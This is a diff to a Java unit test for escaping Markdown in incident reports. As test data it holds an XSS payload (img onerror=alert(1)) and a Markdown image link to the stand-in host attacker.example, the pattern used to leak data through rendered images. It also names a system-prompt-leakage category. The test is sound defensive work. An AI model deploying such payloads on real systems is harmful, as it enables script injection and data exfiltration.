@@ -129,8 +129,10 @@ class IncidentReportTest {
         assertFalse(md.contains("<script"));
         assertFalse(md.contains("<b>"));
         assertTrue(md.contains("&lt;img src=x onerror=alert\\(1\\)&gt;"));
-        assertTrue(md.contains("system\\-prompt\\-leakage"));
-        assertEquals("\\!\\[x\\]\\(https://attacker\\.example/p\\.png?d=1\\)", Markdown.inline("![x](https://attacker.example/p.png?d=1)"));
+        assertTrue(md.contains("| system-prompt-leakage |"));
+        assertEquals("\\# not a heading, 1. x", Markdown.inline("# not a heading, 1. x"));
+        assertEquals("1\\. not a list  \n\\- not an item  \n\\===", Markdown.block("1. not a list\n- not an item\n==="));
+        assertEquals("\\!\\[x\\]\\(https://attacker.example/p.png?d=1\\)", Markdown.inline("![x](https://attacker.example/p.png?d=1)"));
     }
 
     @Test
